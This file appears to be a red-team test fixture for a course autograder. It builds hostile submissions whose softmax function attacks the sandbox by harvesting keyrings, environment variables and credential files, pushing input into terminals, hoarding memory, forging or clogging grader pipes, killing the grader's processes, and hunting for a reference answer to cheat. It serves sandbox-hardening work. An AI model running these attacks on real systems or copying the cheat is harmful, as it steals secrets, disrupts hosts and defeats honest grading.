"""Hostile chapter-02 modules for `tests/test_redteam.py`.

Each is the reference `multi_head_attention.py` with `softmax` replaced by an attack (the
other tasks, the canary `causal_mask` among them, stay the reference's). The attacks share a
small library of module-level helpers, `LIBRARY`, written as a determined student would:
bounded walks of the filesystem, a way to find the id of the request being answered (to act
once per grade, not once per test), and a patch of the worker's own failure report so that
whatever the child might cut on its side, only the trusted side stands between the student's
text and the reports.

Every helper is bounded (time, entries, bytes): an attack that gets through must not take the
machine down with it.
"""

from __future__ import annotations

import textwrap

from tests.conftest import REFERENCE

REFERENCE_SOURCE = (REFERENCE / "multi_head_attention.py").read_text()
_START = REFERENCE_SOURCE.index("def softmax(")
_END = REFERENCE_SOURCE.index("def scaled_dot_product_attention(")
CORRECT_SOFTMAX = REFERENCE_SOURCE[_START:_END].replace("def softmax(", "def _rt_correct_softmax(", 1)

LIBRARY = r'''
import os as _rt_os
import sys as _rt_sys
import time as _rt_time

_RT_STATE = {}  # what an attack found or holds, for the life of this worker


def _rt_walk(roots, *, seconds=4.0, max_entries=60000, skip=("/proc", "/sys", "/dev")):
    """Paths of the non-folders below `roots`, breadth first, bounded in time and entries."""
    deadline = _rt_time.monotonic() + seconds
    queue, found, seen, visited = list(roots), [], 0, set()
    while queue and seen < max_entries and _rt_time.monotonic() < deadline:
        folder = queue.pop(0)
        if folder in visited:
            continue
        visited.add(folder)
        try:
            with _rt_os.scandir(folder) as entries:
                for entry in entries:
                    seen += 1
                    try:
                        if entry.is_dir(follow_symlinks=False):
                            if entry.path not in skip:
                                queue.append(entry.path)
                        else:
                            found.append(entry.path)
                    except OSError:
                        pass
        except OSError:
            pass
    return found


def _rt_read(path, limit=4096):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except (OSError, ValueError):
        return None


def _rt_request_id():
    """The id of the request the worker is answering (found in its frames), or None."""
    frame = _rt_sys._getframe(1)
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return None


def _rt_first_request():
    """True on the grade's first request (or when the id cannot be found)."""
    ident = _rt_request_id()
    return ident is None or ident <= 1


def _rt_uncap_messages():
    """Have the worker's failure report carry the whole exception: name and text uncut."""
    main = _rt_sys.modules.get("__main__")
    original = getattr(main, "_failure", None)
    if original is None or getattr(original, "_rt", False):
        return
    def failure(exc, *args, **kwargs):
        info = original(exc, *args, **kwargs)
        if isinstance(info, dict):
            info["message"] = str(exc)
            info["type"] = type(exc).__name__
        return info
    failure._rt = True
    main._failure = failure


def _rt_config():
    """The worker's configuration (its pipes' numbers), from its command line; {} if not there."""
    import json

    try:
        with open("/proc/self/cmdline", "rb") as handle:
            args = handle.read().split(b"\0")
    except OSError:
        return {}
    for arg in args:
        if arg.startswith(b"{"):
            try:
                return json.loads(arg)
            except ValueError:
                pass
    return {}


def _rt_pipes(readable):
    """Descriptors of this process that are pipes, open for reading (or writing)."""
    import fcntl
    import stat

    found = []
    try:
        names = _rt_os.listdir("/proc/self/fd")
    except OSError:
        names = [str(n) for n in range(3, 64)]
    for name in names:
        fd = int(name)
        if fd < 3:
            continue
        try:
            if not stat.S_ISFIFO(_rt_os.fstat(fd).st_mode):
                continue
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & _rt_os.O_ACCMODE
        except OSError:
            continue
        if mode == (_rt_os.O_RDONLY if readable else _rt_os.O_WRONLY):
            found.append(fd)
    return found
'''


def module(body: str, *, preamble: str = "") -> str:
    """The reference module with `softmax(x, dim=-1)` doing `body` (which may call
    `_rt_correct_softmax(x, dim)`), the library and `preamble` at module level."""
    body = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    new = f"def softmax(x, dim=-1):\n{body}\n\n\n"
    return (REFERENCE_SOURCE[:_START] + LIBRARY + "\n\n" + textwrap.dedent(preamble) + "\n\n"
            + CORRECT_SOFTMAX + "\n" + new + REFERENCE_SOURCE[_END:])


def sabotage_unless_contained(attempt: str) -> str:
    """softmax runs `attempt` once per worker, a function body that returns a list of what got
    through; the right answer when the list is empty, garbage (0.5 everywhere) otherwise. A
    full softmax score therefore proves every attempt failed."""
    return module(
        """
        if "breaches" not in _RT_STATE:
            try:
                _RT_STATE["breaches"] = list(_rt_attempt())
            except Exception as exc:
                _RT_STATE["breaches"] = []
        if _RT_STATE["breaches"]:
            return torch.full_like(x, 0.5)
        return _rt_correct_softmax(x, dim)
        """,
        preamble="def _rt_attempt():\n" + textwrap.indent(textwrap.dedent(attempt).strip("\n"), "    ") + "\n",
    )


# --- the attacks ----------------------------------------------------------------------------------


def finds_another_copy(known: list[str]) -> str:
    """A stub softmax (it raises NotImplementedError) that looks for another copy of the course
    (first where a student who knows the grading server would look, `known`, then a bounded walk
    of /) and runs the reference's softmax it finds there."""
    return module(
        """
        if "found" not in _RT_STATE:
            _RT_STATE["found"] = _rt_find_course()
        if _RT_STATE["found"] is None:
            raise NotImplementedError("softmax: not written yet")
        return _RT_STATE["found"](x, dim)
        """,
        preamble=f"""
        _RT_KNOWN = {known!r}


        def _rt_candidates():
            yield from _RT_KNOWN
            walked = _rt_walk(["/srv", "/home", "/work", "/mnt", "/opt", "/var", "/"], seconds=5.0, max_entries=150000)
            yield from (p for p in walked if p.endswith("/multi_head_attention.py"))


        def _rt_find_course():
            for path in _rt_candidates():
                text = _rt_read(path, 10**6)
                if not text or "def softmax" not in text or "_rt_" in text:
                    continue  # not there, or this very module
                if "raise NotImplementedError('softmax" in text:
                    continue  # a stub
                namespace = {{"__name__": "_rt_decoy"}}
                try:
                    exec(compile(text, path, "exec"), namespace)
                    namespace["softmax"](torch.tensor([0.0, 1.0]))
                except Exception:
                    continue
                return namespace["softmax"]
            return None
        """,
    )


def gathers_secrets(known_files: list[str]) -> str:
    """softmax raises an exception (and prints) everything it could gather: its environment,
    `known_files`, small files found under /home, /root, /srv and /opt, every visible process's
    environment and command line, and the keys of its session and user keyrings. Secrets first,
    so they survive any cut."""
    return module(
        """
        _rt_uncap_messages()
        if "gathered" not in _RT_STATE:
            _RT_STATE["gathered"] = _rt_gather()
        gathered = _RT_STATE["gathered"]
        print("\\n".join(reversed(gathered))[-100000:])  # the output's tail is quoted too: secrets last
        raise RuntimeError(" | ".join(gathered)[:200000])
        """,
        preamble=f"""
        _RT_KNOWN = {known_files!r}


        def _rt_keys():
            import ctypes

            libc = ctypes.CDLL(None, use_errno=True)
            keys, found = set(), []
            buffer = ctypes.create_string_buffer(65536)
            for ring in (-3, -4, -5, -2, -1):  # session, user, user-session, process, thread
                size = libc.syscall(250, 11, ctypes.c_int(ring), buffer, 65536)  # KEYCTL_READ
                if size > 0:
                    data = buffer.raw[:min(size, 65536)]
                    keys.update(int.from_bytes(data[i:i + 4], "little") for i in range(0, len(data) - 3, 4))
            persistent = libc.syscall(250, 22, ctypes.c_int(-1), ctypes.c_int(-3))  # KEYCTL_GET_PERSISTENT
            if persistent > 0:
                keys.add(persistent)
            for key in keys:
                size = libc.syscall(250, 11, ctypes.c_int(key), buffer, 65536)
                if size > 0:
                    found.append("key " + buffer.raw[:min(size, 65536)].decode("utf-8", "replace"))
            return found


        def _rt_gather():
            # Within the call's 10 s, most valuable first (a report may cut the rest): keyrings,
            # the environment, the files a student knows of, then a walk and reads on a clock.
            try:
                first = _rt_keys()
            except Exception:
                first = []
            first += [f"env {{k}}={{v}}" for k, v in _rt_os.environ.items()]
            for path in _RT_KNOWN:
                text = _rt_read(path, 2000)
                if text:
                    first.append(f"file {{path}}: {{text}}")
            rest = []
            for pid in [p for p in _rt_os.listdir("/proc") if p.isdigit()][:200]:
                for what in ("environ", "cmdline"):
                    text = _rt_read(f"/proc/{{pid}}/{{what}}", 20000)
                    if text:
                        first.append(f"proc {{pid}} {{what}}: {{text}}")
            deadline = _rt_time.monotonic() + 4.0
            walked = _rt_walk(["/home", "/root", "/srv", "/run/secrets", "/opt"], seconds=2.0, max_entries=20000)
            hot = ("/.ssh/", "/.aws/", "credential", "secret", "token", ".netrc", ".env")
            walked.sort(key=lambda p: not any(w in p.lower() for w in hot))
            for path in walked:
                if _rt_time.monotonic() > deadline:
                    break
                text = _rt_read(path, 2000)
                if text:
                    (first if any(w in path.lower() for w in hot) else rest).append(f"file {{path}}: {{text}}")
            return first + rest
        """,
    )


def reaches_unix_sockets(known: list[str], abstract: list[str]) -> str:
    """Connects to the sockets `known`, to every socket found under /run, /var/run, /tmp, /srv and
    /home, and to the abstract names `abstract`, and says hello: right answers only if none took it."""
    return sabotage_unless_contained(f"""
        import socket
        import stat

        reached = []
        candidates = {known!r} + _rt_walk(["/run", "/var/run", "/tmp", "/srv", "/home"], seconds=2.0, max_entries=30000)
        for path in candidates:
            try:
                if not stat.S_ISSOCK(_rt_os.lstat(path).st_mode):
                    continue
            except OSError:
                continue
            for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
                try:
                    with socket.socket(socket.AF_UNIX, kind) as client:
                        client.settimeout(0.5)
                        client.connect(path)
                        client.send(b"softmax was here")
                        reached.append(path)
                        break
                except OSError:
                    pass
        for name in {abstract!r}:
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
                    client.settimeout(0.5)
                    client.connect("\\0" + name)
                    client.send(b"softmax was here")
                    reached.append("@" + name)
            except OSError:
                pass
        return reached
    """)


def uses_terminals(secret: str, tag: str) -> str:
    """Writes `secret` to every terminal it can open (/dev/pts/*, /dev/tty), pushes it into their
    input with TIOCSTI, and allocates up to 16 pseudo-terminals (os.openpty, /dev/ptmx), held
    for two seconds; then fails with a report that does not quote the secret: "`tag` opened=...
    wrote=N pushed=N allocated=N"."""
    return module(
        """
        if "terminals" not in _RT_STATE:
            _RT_STATE["terminals"] = _rt_terminals()
        raise RuntimeError(_RT_STATE["terminals"])
        """,
        preamble=f"""
        def _rt_terminals():
            import fcntl
            import glob
            import termios

            secret = {secret!r}.encode()
            opened, wrote, pushed, held = [], 0, 0, []
            for path in sorted(glob.glob("/dev/pts/*")) + ["/dev/tty"]:
                if path.endswith("ptmx"):
                    continue
                try:
                    fd = _rt_os.open(path, _rt_os.O_RDWR | _rt_os.O_NOCTTY | _rt_os.O_NONBLOCK)
                except OSError:
                    try:
                        fd = _rt_os.open(path, _rt_os.O_WRONLY | _rt_os.O_NOCTTY | _rt_os.O_NONBLOCK)
                    except OSError:
                        continue
                opened.append(path)
                try:
                    wrote += _rt_os.write(fd, b"\\r\\n" + secret + b"\\r\\n") > 0
                except OSError:
                    pass
                for byte in secret + b"\\n":
                    try:
                        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
                        pushed += 1
                    except OSError:
                        break
                _rt_os.close(fd)
            for _ in range(8):
                try:
                    held.extend(_rt_os.openpty())
                except OSError:
                    break
            for _ in range(8):
                try:
                    held.append(_rt_os.open("/dev/ptmx", _rt_os.O_RDWR | _rt_os.O_NOCTTY))
                except OSError:
                    break
            allocated = len(held)
            if held:
                _rt_time.sleep(2.0)  # long enough for the host to see them
            for fd in held:
                _rt_os.close(fd)
            return f"{tag} opened={{opened}} wrote={{wrote}} pushed={{pushed}} allocated={{allocated}}"
        """,
    )


def hoards_memory(cap: int, shm_size: int, shm_prefix: str) -> str:
    """Holds up to `cap` bytes outside the address-space limit: memfd files (written, under the
    file-size limit each), SysV shared memory segments of `shm_size` bytes (attached, touched,
    detached, never removed), files in /dev/shm named `shm_prefix`*, pipe buffers (the open-file
    limit raised as far as it goes) and socket buffers, in that order, each until its first
    error, within 7 s. Then fails with "HOARD memfd=N sysv=N shm=N pipes=N sockets=N total=N"."""
    return module(
        """
        if "hoard" not in _RT_STATE:
            _RT_STATE["hoard"] = _rt_hoard()
        raise RuntimeError(_RT_STATE["hoard"])
        """,
        preamble=f"""
        _RT_CAP, _RT_SHM_SIZE, _RT_SHM_PREFIX = {cap}, {shm_size}, {shm_prefix!r}
        _RT_HELD = []


        def _rt_hoard():
            import ctypes

            chunk = b"\\1" * (8 << 20)
            per_file = 56 << 20  # under the worker's 64 MiB file-size limit, so no SIGXFSZ
            held = {{"memfd": 0, "sysv": 0, "shm": 0, "pipes": 0, "sockets": 0}}
            deadline = _rt_time.monotonic() + 7.0
            total = lambda: sum(held.values())
            try:
                while total() < _RT_CAP and _rt_time.monotonic() < deadline:
                    fd = _rt_os.memfd_create("rt")
                    _RT_HELD.append(fd)
                    for _ in range(per_file // len(chunk)):
                        held["memfd"] += _rt_os.write(fd, chunk)
            except (OSError, AttributeError):
                pass
            try:
                libc = ctypes.CDLL(None, use_errno=True)
                libc.shmat.restype = ctypes.c_void_p
                libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
                libc.shmdt.argtypes = [ctypes.c_void_p]
                while total() < _RT_CAP and _rt_time.monotonic() < deadline:
                    ident = libc.shmget(0, ctypes.c_size_t(_RT_SHM_SIZE), 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
                    if ident < 0:
                        break
                    address = libc.shmat(ident, None, 0)
                    if address in (None, ctypes.c_void_p(-1).value):
                        break
                    ctypes.memset(address, 1, _RT_SHM_SIZE)
                    libc.shmdt(address)
                    held["sysv"] += _RT_SHM_SIZE
            except Exception:
                pass
            try:
                index = 0
                while total() < _RT_CAP and _rt_time.monotonic() < deadline:
                    with open(f"/dev/shm/{{_RT_SHM_PREFIX}}{{index}}", "wb") as handle:
                        for _ in range(per_file // len(chunk)):
                            held["shm"] += handle.write(chunk)
                    index += 1
            except OSError:
                pass
            try:  # pipe buffers: kernel memory, outside the address space; as many pipes as fds allow
                import fcntl
                import resource

                soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
                try:
                    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
                except (ValueError, OSError):
                    pass
                while total() < _RT_CAP and _rt_time.monotonic() < deadline:
                    reader, writer = _rt_os.pipe()
                    _RT_HELD.extend((reader, writer))
                    try:
                        fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ: the most a user may ask
                    except OSError:
                        pass
                    _rt_os.set_blocking(writer, False)
                    try:
                        while True:
                            held["pipes"] += _rt_os.write(writer, chunk[: 1 << 16])
                    except BlockingIOError:
                        pass
            except OSError:
                pass
            try:  # socket buffers, the same way
                import socket

                while total() < _RT_CAP and _rt_time.monotonic() < deadline:
                    left, right = socket.socketpair()
                    _RT_HELD.extend((left, right))
                    left.setblocking(False)
                    try:
                        left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
                        right.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
                    except OSError:
                        pass
                    try:
                        while True:
                            held["sockets"] += left.send(chunk[: 1 << 16])
                    except BlockingIOError:
                        pass
            except OSError:
                pass
            return (f"HOARD memfd={{held['memfd']}} sysv={{held['sysv']}} shm={{held['shm']}} "
                    f"pipes={{held['pipes']}} sockets={{held['sockets']}} total={{total()}}")
        """,
    )


def clogs_the_request_pipe() -> str:
    """On the grade's first request: shrinks the worker's request pipe to one page, fills that
    page itself (through /proc/self/fd, which opens the pipe for writing), answers right, then
    never reads again (the read of the next request sleeps; a second later the worker stops
    itself). The grader's next request has nowhere to go."""
    return module(
        """
        if _rt_first_request() and "clogged" not in _RT_STATE:
            _RT_STATE["clogged"] = _rt_clog()
        return _rt_correct_softmax(x, dim)
        """,
        preamble="""
        def _rt_clog():
            import fcntl
            import signal
            import threading

            config = _rt_config()
            fds = [config["request_fd"]] if "request_fd" in config else _rt_pipes(readable=True)
            for fd in fds:
                try:
                    fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ: one page
                except OSError:
                    pass
                try:
                    writer = _rt_os.open(f"/proc/self/fd/{fd}", _rt_os.O_WRONLY | _rt_os.O_NONBLOCK)
                    try:
                        while _rt_os.write(writer, b"\\0" * 4096):
                            pass
                    except OSError:
                        pass  # full
                except OSError:
                    pass
            real_read, real_readv = _rt_os.read, _rt_os.readv

            def read(fd, *args):
                if fd in fds:
                    _rt_time.sleep(10**6)
                return real_read(fd, *args)

            def readv(fd, *args):
                if fd in fds:
                    _rt_time.sleep(10**6)
                return real_readv(fd, *args)

            _rt_os.read, _rt_os.readv = read, readv

            def stop():
                _rt_time.sleep(1.0)
                _rt_os.kill(_rt_os.getpid(), signal.SIGSTOP)

            threading.Thread(target=stop, daemon=True).start()
            return fds
        """,
    )


def forges_reply(kind: str) -> str:
    """On the grade's first request, writes its own frame on the reply pipe, with the worker's
    own framing code and the id of the request being answered where it can find them, then
    sleeps (the grader decides what the frame is worth). `kind`:

    - "pickle_bomb": a torch.save-shaped archive whose data.pkl is 24 MiB of EMPTY_LIST opcodes
      (decoded, about 24 million lists: gigabytes and tens of seconds in the grader);
    - "wrong_id": a well-formed, plausible reply, under another request's id;
    - "claims_255mib": a header announcing 255 MiB, then 255 MiB of zeros.
    """
    return module(
        f"""
        if _rt_first_request() and "forged" not in _RT_STATE:
            _RT_STATE["forged"] = True
            _rt_forge({kind!r})
            _rt_time.sleep(60)
        return _rt_correct_softmax(x, dim)
        """,
        preamble="""
        def _rt_frame_context():
            frame, ident = _rt_sys._getframe(1), None
            while frame is not None:
                if "ident" in frame.f_locals and isinstance(frame.f_locals["ident"], int):
                    ident = frame.f_locals["ident"]
                frame = frame.f_back
            return ident


        def _rt_forge(kind):
            import inspect
            import io
            import struct
            import zipfile

            config = _rt_config()
            fds = [config["reply_fd"]] if "reply_fd" in config else _rt_pipes(readable=False)
            main = _rt_sys.modules.get("__main__")
            ident = _rt_frame_context()
            request_id = _rt_request_id()
            header = getattr(main, "HEADER", None)
            fields = 2 if header is not None and header.size == 16 else 1

            def frame_header(size, frame_id):
                return struct.pack(">QQ", size, frame_id) if fields == 2 else struct.pack(">Q", size)

            if kind == "pickle_bomb":
                buffer = io.BytesIO()
                with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
                    archive.writestr("archive/data.pkl", b"\\x80\\x02" + b"]" * (24 << 20))
                    archive.writestr("archive/byteorder", b"little")
                    archive.writestr("archive/version", b"3\\n")
                payload = buffer.getvalue()
                chunks = [frame_header(len(payload), ident or 0), payload]
            elif kind == "wrong_id":
                buffer = io.BytesIO()
                torch.save({"ok": True, "outputs": [torch.ones(1)], "id": (request_id or 0) + 1000}, buffer)
                payload = buffer.getvalue()
                chunks = [frame_header(len(payload), (ident or 0) + 1000), payload]
            else:
                size = 255 << 20
                chunks = [frame_header(size, ident or 0)] + [b"\\0" * (1 << 20)] * 255
            for fd in fds:
                try:
                    for chunk in chunks:
                        view = memoryview(chunk)
                        while view:
                            view = view[_rt_os.write(fd, view):]
                except OSError:
                    pass
        """,
    )


def sleeps_in_softmax(seconds: float) -> str:
    """Right answers, each after `seconds` of sleep."""
    return module(f"""
        _rt_time.sleep({seconds})
        return _rt_correct_softmax(x, dim)
    """)


def huge_source(padding_bytes: int) -> str:
    """The reference module, then `padding_bytes` of valid Python (one list literal of ones)."""
    count = padding_bytes // 2
    return REFERENCE_SOURCE + "\n\n_PADDING = [" + "1," * count + "]\n"


def raises_with_a_huge_name(size: int) -> str:
    """softmax raises an exception whose class name (built at run time) is `size` characters,
    with a message as long, past whatever the worker cuts."""
    return module(f"""
        _rt_uncap_messages()
        name = "E" * {size}
        raise type(name, (Exception,), {{}})("m" * {size})
    """)


def raises_with(message: str, printed: str = "") -> str:
    """softmax prints `printed`, then raises RuntimeError(`message`), past whatever the worker cuts."""
    return module(f"""
        _rt_uncap_messages()
        print({printed!r})
        raise RuntimeError({message!r})
    """)


def kills_what_it_can_see(tree_path: str) -> str:
    """softmax sends SIGKILL to every process it can see whose command line names the tree it
    was graded from (the grader), to its parent and its parent's parent, and to its own process
    group; then answers right (if it still runs). Never kill(-1): on a broken sandbox that would
    be every process of the machine."""
    return module("""
        if _rt_first_request() and "killed" not in _RT_STATE:
            _RT_STATE["killed"] = _rt_kill_all()
        return _rt_correct_softmax(x, dim)
    """, preamble=f"""
        def _rt_kill_all():
            import signal

            me = _rt_os.getpid()
            targets = set()
            for pid in [int(p) for p in _rt_os.listdir("/proc") if p.isdigit()]:
                text = _rt_read(f"/proc/{{pid}}/cmdline", 100000) or ""
                if {tree_path!r} in text and pid != me:
                    targets.add(pid)
            parent = _rt_os.getppid()
            targets |= {{parent}}
            stat = _rt_read(f"/proc/{{parent}}/stat") or ""
            try:
                targets.add(int(stat[stat.rindex(")") + 2:].split()[1]))
            except (ValueError, IndexError):
                pass
            killed = []
            for pid in sorted(targets - {{0, 1, me}}):
                try:
                    _rt_os.kill(pid, signal.SIGKILL)
                    killed.append(pid)
                except OSError:
                    pass
            try:
                _rt_os.setsid()
            except OSError:
                pass
            return killed
    """)


def spawns_threads(limit: int) -> str:
    """softmax starts sleeping threads until it may not (at most `limit`), then answers right."""
    return module(f"""
        if "threads" not in _RT_STATE:
            import threading

            _RT_STATE["threads"] = 0
            stop = _rt_time.monotonic() + 5.0
            while _RT_STATE["threads"] < {limit} and _rt_time.monotonic() < stop:
                try:
                    threading.Thread(target=_rt_time.sleep, args=(30,), daemon=True).start()
                except RuntimeError:
                    break
                _RT_STATE["threads"] += 1
        return _rt_correct_softmax(x, dim)
    """)


def abandons_its_pipes() -> str:
    """On the grade's first request, closes its ends of the grader's pipes and lingers (sleeps
    30 s): the grader sees the pipes end while the worker still runs."""
    return module("""
        if _rt_first_request() and "abandoned" not in _RT_STATE:
            config = _rt_config()
            fds = [config[k] for k in ("request_fd", "reply_fd") if k in config]
            for fd in fds or (_rt_pipes(readable=True) + _rt_pipes(readable=False)):
                try:
                    _rt_os.close(fd)
                except OSError:
                    pass
            _RT_STATE["abandoned"] = True
            _rt_time.sleep(30)
        return _rt_correct_softmax(x, dim)
    """)
